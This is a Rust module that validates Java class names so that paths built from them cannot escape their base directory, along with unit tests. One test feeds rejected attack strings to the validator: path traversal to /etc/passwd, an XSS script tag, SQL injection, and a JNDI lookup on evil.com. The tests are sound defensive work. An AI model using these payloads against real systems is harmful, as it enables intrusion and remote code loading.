//! Validated, fully-qualified class names.
//!
//! Every path the crate derives from a user-supplied class name (archive entry,
//! scratch file, cache file) goes through [`UnitName`], so a name that parses
//! can never point outside the directory it is joined onto.

use std::fmt;
use std::path::PathBuf;

use crate::error::{FinderError, Result};

const PRIMITIVES: [&str; 9] = [
    "boolean", "byte", "char", "short", "int", "long", "float", "double", "void",
];

#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct UnitName {
    dotted: String,
}

impl UnitName {
    pub fn parse(raw: &str) -> Result<Self> {
        let name = normalize_unit_name(raw);
        let invalid = |reason: &str| FinderError::InvalidUnitName {
            name: raw.to_string(),
            reason: reason.to_string(),
        };

        if name.is_empty() {
            return Err(invalid("class name is empty"));
        }
        if name.starts_with('[') || name.ends_with("[]") {
            return Err(invalid("array types have no class file; use the element type"));
        }
        if name.contains('<') || name.contains('>') {
            return Err(invalid("generic arguments are not part of a class name"));
        }
        if PRIMITIVES.contains(&name.as_str()) {
            return Err(invalid("primitive types have no class file"));
        }
        if name.contains('/') || name.contains('\\') {
            return Err(invalid("use dots, not path separators"));
        }

        for segment in name.split('.') {
            if segment.is_empty() {
                return Err(invalid("empty package segment"));
            }
            if !is_identifier(segment) {
                return Err(invalid("segments must be Java identifiers"));
            }
        }

        Ok(Self { dotted: name })
    }

    pub fn as_str(&self) -> &str {
        &self.dotted
    }

    /// Dotted package prefix, empty for the default package.
    pub fn package_name(&self) -> &str {
        match self.dotted.rfind('.') {
            Some(idx) => &self.dotted[..idx],
            None => "",
        }
    }

    pub fn simple_name(&self) -> &str {
        match self.dotted.rfind('.') {
            Some(idx) => &self.dotted[idx + 1..],
            None => &self.dotted,
        }
    }

    pub fn is_nested(&self) -> bool {
        self.simple_name().contains('$')
    }

    /// The enclosing top-level unit of a nested one, e.g. `a.Outer` for `a.Outer$Inner$Deep`.
    pub fn top_level(&self) -> UnitName {
        let simple = self.simple_name();
        match simple.find('$') {
            Some(idx) if idx > 0 => {
                let outer = &simple[..idx];
                let dotted = if self.package_name().is_empty() {
                    outer.to_string()
                } else {
                    format!("{}.{outer}", self.package_name())
                };
                UnitName { dotted }
            }
            _ => self.clone(),
        }
    }

    /// Entry name inside a jar: `a/b/C.class`.
    pub fn class_entry(&self) -> String {
        class_name_to_class_path(&self.dotted)
    }

    /// Relative path mirroring the package structure, e.g. `a/b/C.<ext>`.
    pub fn relative_path(&self, extension: &str) -> PathBuf {
        let mut path = PathBuf::new();
        for segment in self.package_name().split('.').filter(|s| !s.is_empty()) {
            path.push(segment);
        }
        path.push(format!("{}.{extension}", self.simple_name()));
        path
    }
}

impl fmt::Display for UnitName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.dotted)
    }
}

pub fn class_name_to_class_path(class_name: &str) -> String {
    format!("{}.class", class_name.replace('.', "/"))
}

/// Maps a jar entry to a dotted top-level unit name.
///
/// Returns `None` for resources, nested units (`$`) and the `package-info` /
/// `module-info` descriptors.
pub fn top_level_unit_from_entry(entry: &str) -> Option<String> {
    let stem = entry.strip_suffix(".class")?;
    if stem.is_empty() || stem.contains('$') {
        return None;
    }
    if stem.starts_with("META-INF/") {
        return None;
    }
    let dotted = stem.replace(['/', '\\'], ".");
    if dotted.ends_with("package-info") || dotted.ends_with("module-info") {
        return None;
    }
    Some(dotted)
}

/// Accepts the forms people paste: `import a.b.C;`, surrounding whitespace.
pub fn normalize_unit_name(raw: &str) -> String {
    let mut s = raw.trim();
    if let Some(rest) = s.strip_prefix("import ") {
        s = rest.trim();
    }
    if let Some(rest) = s.strip_prefix("static ") {
        s = rest.trim();
    }
    if s.ends_with(';') {
        s = s.trim_end_matches(';').trim();
    }
    s.chars().filter(|c| !c.is_whitespace()).collect()
}

fn is_identifier(segment: &str) -> bool {
    let mut chars = segment.chars();
    let Some(first) = chars.next() else {
        return false;
    };
    if !(first.is_alphabetic() || first == '_' || first == '$') {
        return false;
    }
    chars.all(|c| c.is_alphanumeric() || c == '_' || c == '$')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_splits_package_and_simple_name() {
        let unit = UnitName::parse("org.apache.commons.lang3.StringUtils").unwrap();
        assert_eq!(unit.package_name(), "org.apache.commons.lang3");
        assert_eq!(unit.simple_name(), "StringUtils");
        assert_eq!(unit.class_entry(), "org/apache/commons/lang3/StringUtils.class");
        assert_eq!(
            unit.relative_path("java"),
            PathBuf::from("org/apache/commons/lang3/StringUtils.java")
        );
    }

    #[test]
    fn parse_accepts_import_statement() {
        let unit = UnitName::parse("import org.springframework.stereotype. Component ;").unwrap();
        assert_eq!(unit.as_str(), "org.springframework.stereotype.Component");
    }

    #[test]
    fn parse_rejects_traversal_and_garbage() {
        for raw in [
            "",
            "../../etc/passwd",
            "../../../",
            "<script>alert('xss')</script>",
            "'; DROP TABLE users; --",
            "${jndi:ldap://evil.com/a}",
            "a..B",
        ] {
            assert!(
                matches!(UnitName::parse(raw), Err(FinderError::InvalidUnitName { .. })),
                "{raw} should be rejected"
            );
        }
    }

    #[test]
    fn parse_rejects_types_without_class_files() {
        for raw in [
            "int",
            "void",
            "[Ljava.lang.String;",
            "[I",
            "java.lang.String[]",
            "java.util.List<java.lang.String>",
        ] {
            assert!(UnitName::parse(raw).is_err(), "{raw} should be rejected");
        }
    }

    #[test]
    fn parse_accepts_unicode_and_nested_names() {
        let unit = UnitName::parse("com.测试.Test").unwrap();
        assert_eq!(unit.package_name(), "com.测试");

        let nested = UnitName::parse("com.example.Container$Inner$Nested").unwrap();
        assert!(nested.is_nested());
        assert_eq!(nested.top_level().as_str(), "com.example.Container");
        assert_eq!(nested.class_entry(), "com/example/Container$Inner$Nested.class");
    }

    #[test]
    fn default_package_has_flat_paths() {
        let unit = UnitName::parse("Main").unwrap();
        assert_eq!(unit.package_name(), "");
        assert_eq!(unit.relative_path("java"), PathBuf::from("Main.java"));
    }

    #[test]
    fn distinct_names_map_to_distinct_paths() {
        let a = UnitName::parse("a.b.C").unwrap();
        let b = UnitName::parse("a.b$C").unwrap();
        let c = UnitName::parse("a.B.C").unwrap();
        assert_ne!(a.relative_path("java"), b.relative_path("java"));
        assert_ne!(a.relative_path("java"), c.relative_path("java"));
    }

    #[test]
    fn top_level_unit_from_entry_skips_nested_and_descriptors() {
        assert_eq!(
            top_level_unit_from_entry("org/example/A.class").as_deref(),
            Some("org.example.A")
        );
        assert_eq!(top_level_unit_from_entry("org/example/A$Inner.class"), None);
        assert_eq!(top_level_unit_from_entry("org/example/package-info.class"), None);
        assert_eq!(top_level_unit_from_entry("module-info.class"), None);
        assert_eq!(
            top_level_unit_from_entry("META-INF/versions/9/org/example/A.class"),
            None
        );
        assert_eq!(top_level_unit_from_entry("META-INF/MANIFEST.MF"), None);
    }
}
